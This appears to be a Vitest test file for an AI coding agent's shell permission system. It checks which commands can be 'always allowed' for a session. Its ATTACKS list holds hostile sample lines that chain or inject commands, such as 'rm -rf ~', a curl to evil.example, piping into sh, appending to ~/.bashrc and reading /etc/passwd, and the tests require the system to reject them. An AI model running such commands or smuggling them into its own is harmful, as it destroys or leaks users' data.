/**
 * "Always allow" a shell command for the session: which lines qualify, the prefix they give, and
 * that no later line sneaks something else past a granted prefix.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { setLanguage } from '../../src/support/i18n/index.js';
import { commandPrefix } from '../../src/tools/shell/prefix.js';
import shell from '../../src/tools/shell/shell.js';
import { loadBashParser } from '../../src/tools/shell/tree.js';
import { readStandingKey } from '../../src/tools/standing.js';
import type { ToolContext } from '../../src/tools/types.js';

beforeAll(async () => {
  await loadBashParser();
  setLanguage('en');
});

const shown = (line: string) => commandPrefix(line, 'linux')?.shown;
const key = (line: string) => commandPrefix(line, 'linux')?.key;

describe('the prefix of a plain command', () => {
  it('is the program and its subcommand for programs with subcommands', () => {
    expect(shown('git status')).toBe('git status');
    expect(shown('git status --short')).toBe('git status');
    expect(shown('npm test')).toBe('npm test');
    expect(shown('cargo build --release')).toBe('cargo build');
    expect(key('git status --short')).toBe(key('git status'));
    expect(key('git push')).not.toBe(key('git status'));
  });

  it('takes the next word after a subcommand that runs something', () => {
    expect(shown('npm run build')).toBe('npm run build');
    expect(key('npm run lint')).not.toBe(key('npm run build'));
    expect(shown('uv run pytest -q')).toBe('uv run pytest');
  });

  it('is the program alone for other programs, with the same files (issue 37)', () => {
    expect(shown('ls')).toBe('ls');
    expect(shown('ls -la src')).toBe('ls … src');
    expect(key('ls -la')).toBe(key('ls'));
    expect(key('ls -la src')).toBe(key('ls src'));
    expect(key('ls src')).not.toBe(key('ls'));
    expect(shown('wc -l "my notes.txt"')).toBe('wc … "my notes.txt"');
    expect(commandPrefix('ls', 'linux')!.exact).toBe(false);
    // An "always" for one file never covers another, nor one outside the folder.
    expect(key('cat /srv/other/settings.py')).not.toBe(key('cat README.md'));
    expect(key('cat README.md /srv/other/settings.py')).not.toBe(key('cat README.md'));
    expect(key('cat -A README.md')).toBe(key('cat README.md'));
    // An option carrying a value is a file as far as the key goes.
    expect(key('sort --output=/tmp/x README.md')).not.toBe(key('sort README.md'));
    expect(key('git status ../other')).not.toBe(key('git status'));
    expect(key('git diff --no-index /etc/a /srv/b')).not.toBe(key('git diff'));
  });

  it('is the whole command for programs that run code, and for programs given by a path', () => {
    for (const line of [
      'python3 build.py',
      'node x.js',
      'sh run.sh',
      'find . -name x',
      'sed -n 1p a',
      './build.sh --fast',
      'npx prettier .',
      'env',
      'xargs',
    ]) {
      const p = commandPrefix(line, 'linux');
      expect(p?.exact, line).toBe(true);
      expect(p?.shown, line).toBe(line);
    }
    expect(key('python3 build.py --clean')).not.toBe(key('python3 build.py'));
    // Options before the subcommand could point it anywhere (`git -C / …`, `git -c alias…`).
    expect(commandPrefix('git -C sub status', 'linux')?.exact).toBe(true);
    expect(key('git -C other status')).not.toBe(key('git -C sub status'));
  });
});

describe('lines that never get a prefix', () => {
  const ATTACKS = [
    'git status; rm -rf ~',
    'git status && curl https://evil.example/x',
    'git status || curl evil.example',
    'ls $(rm -rf ~)',
    'ls `rm -rf ~`',
    'ls "$(rm -rf ~)"',
    'git status | sh',
    'ls | grep x',
    'ls > listing.txt',
    'ls >> ~/.bashrc',
    'ls 2>/dev/null',
    'cat < /etc/passwd',
    'ls &',
    'git status\nrm -rf ~',
    'git status\rrm -rf ~',
    'ls $HOME',
    'ls $' + '{HOME}',
    'FOO=1 git status',
    'PATH=/tmp git status',
    'ls {a,b}',
    'ls ~',
    'git status # comment',
    'ls <(rm x)',
    '(ls)',
    '{ ls; }',
    'ls\\ -la',
    '!ls',
    'f() { rm -rf ~; }; f',
    '',
    '   ',
    'git status "unclosed',
  ];
  for (const line of ATTACKS) {
    it(JSON.stringify(line), () => {
      expect(commandPrefix(line, 'linux')).toBeUndefined();
    });
  }

  it("reads `%` as cmd.exe's variable mark on Windows", () => {
    expect(commandPrefix('dir %USERPROFILE%', 'win32')).toBeUndefined();
    expect(shown('git status')).toBe('git status');
    expect(commandPrefix('git status', 'win32')?.shown).toBe('git status');
  });
});

describe('the shell tool offers it only for plain verdicts', () => {
  const ctx = { cwd: process.cwd(), outputDir: `${process.cwd()}/zhi-output` } as ToolContext;
  it('offers "always" for a plain command, with the prefix in the label', async () => {
    const a = await shell.assess!({ command: 'git status', timeout: 30 }, ctx);
    expect(a.standing?.label).toBe('always allow `git status` this session (other options, the same files)');
    expect(readStandingKey(a.standing!.key)).toEqual({
      kind: 'prefix',
      words: ['git', 'status'],
      operands: [],
    });
    const c = await shell.assess!({ command: 'cat README.md', timeout: 30 }, ctx);
    expect(c.standing?.label).toBe(
      'always allow `cat … README.md` this session (other options, the same files)',
    );
    expect(readStandingKey(c.standing!.key)).toEqual({
      kind: 'prefix',
      words: ['cat'],
      operands: ['README.md'],
    });
    const b = await shell.assess!({ command: 'python3 build.py', timeout: 30 }, ctx);
    expect(b.standing?.label).toBe('always allow `python3 build.py` this session');
  });

  it('never for a command the policy warns about or refuses', async () => {
    const warned = await shell.assess!({ command: 'rm old.txt', timeout: 30 }, ctx);
    expect(warned.warning).toBeTruthy();
    expect(warned.standing).toBeUndefined();
    const refused = await shell.assess!({ command: 'rm -rf ~', timeout: 30 }, ctx);
    expect(refused.standing).toBeUndefined();
  });

  it('in Chinese too', async () => {
    setLanguage('zh');
    try {
      const a = await shell.assess!({ command: 'git status', timeout: 30 }, ctx);
      expect(a.standing?.label).toBe('本次会话中总是允许 `git status`（选项可以不同，文件必须相同）');
    } finally {
      setLanguage('en');
    }
  });
});
